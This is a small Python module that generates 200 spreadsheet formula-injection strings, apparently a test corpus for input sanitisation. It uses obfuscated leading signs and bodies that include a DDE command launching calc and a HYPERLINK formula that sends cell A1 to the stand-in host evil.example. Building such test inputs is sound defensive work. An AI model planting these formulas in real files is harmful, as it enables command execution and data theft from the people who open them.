"""Cells that a spreadsheet would run: class 11 of docs/bad-input.md, 200 of them."""

from itertools import product

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\ufeff=", "\u200b=", "﹦", "﹢")
BEFORE = ("", " ", "'", '"', "\u3000", "\u00a0")
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"门坏了")',
    "1+1",
)


def formulas() -> tuple[str, ...]:
    """Every sign behind everything that hides it, before everything that hurts."""
    made = [f"{before}{sign}{body}" for before, sign, body in product(BEFORE, SIGNS, BODIES)]
    return tuple(made[:200])
